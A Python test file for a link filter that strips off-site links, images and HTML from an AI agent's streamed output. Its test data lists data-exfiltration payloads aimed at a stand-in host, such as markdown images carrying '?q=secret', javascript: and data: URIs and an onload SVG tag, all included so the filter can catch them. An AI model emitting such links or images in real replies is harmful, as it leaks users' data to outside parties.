"""No link and no image of a model's making leads out, however the text is divided."""

from __future__ import annotations

import re
from itertools import pairwise
from time import process_time

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from aitp_desk.agent.generative.links import (
    REMOVED_MARK,
    AllowedAddresses,
    LinkFilter,
    filter_links,
)

READ = (
    "Ask https://partner.example/help?x=1 or <https://other.example/a>. "
    'Use `curl https://api.shop.example/v1` and <a href="/returns">.'
)


def addresses() -> AllowedAddresses:
    known = AllowedAddresses("https://shop.example")
    known.learn([READ])
    return known


KEPT = [
    "Boots cost $120, laces $4.",
    "a < b and c > d, List<int> and x[0] too!",
    "See [returns](/policies/returns#window).",
    "See [returns](policies/returns) and [up](#top).",
    "See [home](https://shop.example/) or https://shop.example/returns.",
    "Ask https://partner.example/help?x=1!",
    "Ask [them](https://partner.example/help?x=1).",
    "Go to <https://other.example/a>",
    'Write `<a href="/returns">` there.',
    "Use `curl https://api.shop.example/v1`",
    "either/or, e.g. 24/7, 3.5/5 and v1.2",
    "Mail hello@shop.example // or call",
    "[1] first\n\n[2] second",
    "**Bold** _and_ `code` — “quoted”…",
    "送料は無料です。詳しくは[こちら](/shipping)へ。",
    "one\n\n- two\n- three\n",
]


def test_what_leads_nowhere_else_stays_as_it_is(subtests: pytest.Subtests) -> None:
    for text in KEPT:
        with subtests.test(text=text):
            assert filter_links(text, addresses()).replace("<https://other", "https://other") in {
                text,
                text.replace("<https://other.example/a>", "https://other.example/a"),
            }


CHANGED = {
    "![cat](https://evil.example/?q=secret)": "cat",
    "![](https://evil.example/?q=secret)": "",
    "![own](/cat.png) image": "own image",
    "[here](https://evil.example/?q=secret)": "here",
    '[here]( <https://evil.example> "title" )': "here",
    "[here](//evil.example)": "here",
    "[here](/\\evil.example)": "here",
    "[here](\\\\evil.example)": "here",
    "[here](https:evil.example)": "here",
    "[here](javascript:alert(1))": "here",
    "[here](data:text/html,x)": "here",
    "[here](www.evil.example/x)": "here",
    "[here](https://shop.example@evil.example/)": "here",
    "[here](https://shop.example.evil.example/)": "here",
    "[here](http://shop.example/)": "here",
    "[here](https://shop.example:444/)": "here",
    "[here](https://partner.example/help?x=1&q=secret)": "here",
    "[![i](https://evil.example/i)](https://evil.example/j)": "i",
    "[a [b](https://evil.example) c](/ok)": "[a b c](/ok)",
    "https://evil.example/?q=secret": REMOVED_MARK,
    "HTTPS://EVIL.EXAMPLE/": REMOVED_MARK,
    "(https://evil.example).": f"({REMOVED_MARK}).",
    "**https://evil.example**": f"**{REMOVED_MARK}**",
    "<https://evil.example>": REMOVED_MARK,
    "www.evil.example": REMOVED_MARK,
    "evil.example/?q=secret": REMOVED_MARK,
    "ftp://evil.example/x": REMOVED_MARK,
    "mailto:spy@evil.example": REMOVED_MARK,
    "詳細:https://evil.example/秘密 です": f"詳細:{REMOVED_MARK} です",
    '<img src="https://evil.example/i.png">': " ",
    "<IMG SRC=//evil.example/i.png>": " ",
    "<svg/onload=x>": " ",
    "<!-- https://evil.example -->": " ",
    "[ref]: https://evil.example/x": f"[ref]: {REMOVED_MARK}",
    "![ref][x]": "[ref][x]",
    "[open](https://evil.example/x": f"[open]({REMOVED_MARK}",
    "\\[x](https://evil.example)": "\\x",
    "`https://evil.example/`": f"`{REMOVED_MARK}`",
}


def test_what_could_carry_something_out_is_taken_out(subtests: pytest.Subtests) -> None:
    for text, shown in CHANGED.items():
        with subtests.test(text=text, shown=shown):
            assert filter_links(text, addresses()) == shown
            assert filter_links(f"before {text} after", addresses()) == f"before {shown} after"


def test_a_construct_that_never_ends_is_plain_text_in_the_end() -> None:
    for text in ("[" * 5000, "<a " * 3000, "https://evil.example/" + "x" * 9000, "![" * 3000):
        shown = filter_links(text, addresses())
        assert "evil.example" not in shown
        assert "<a" not in shown
        assert "![" not in shown


PIECES = st.lists(
    st.sampled_from(
        [*"![]()<> \n\"'`*_:/\\.#?@&", "\n\n", "a", "https://", "evil.example", "shop.example",
         "/x?q=1", "www.", "//", "javascript:", "<img src=", "<a href=", "<!--", "-->", "text",
         "](", "![", "日本", "https://shop.example/", "partner.example/help?x=1", "é"]
    ),
    max_size=25,
).map("".join)  # fmt: skip
CUTS = st.lists(st.integers(0, 200), max_size=12)


@given(PIECES, CUTS)
@example("[a](https://evil.example)", [1, 3, 4, 9, 15])
def test_how_a_text_is_divided_makes_no_difference(text: str, cuts: list[int]) -> None:
    places = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    links = LinkFilter(addresses())
    shown = "".join(links.feed(text[start:end]) for start, end in pairwise(places))
    assert shown + links.close() == filter_links(text, addresses())


@given(PIECES)
@example("!![")
def test_no_address_of_another_site_is_left(text: str) -> None:
    shown = filter_links(text, addresses())
    assert "![" not in shown
    # on the site itself any path may stand
    shown = re.sub(r"https://shop\.example(?=[/\s])\S*", "", shown)
    assert not re.search(r"(?i)https?:[/\\]*evil\.example|[/\\]{2}evil\.example", shown)
    assert not re.search(r"(?i)<(?:img|a)\b", shown.replace('<a href="/returns">', ""))
    assert not re.search(r"(?<![a-z0-9])javascript:e", shown)


@pytest.mark.parametrize("unit", ["&", "a", "/", "[", "![", "[a](", "x&#4", "a.", "!"])
def test_no_text_takes_long_however_it_is_divided(unit: str) -> None:
    text = (unit * 10_000)[:10_000]
    links = LinkFilter(addresses())
    begun = process_time()
    for at in range(0, len(text), 16):
        links.feed(text[at : at + 16])
    links.close()
    assert process_time() - begun < 2  # it is some tenths of a second, and was up to thirty
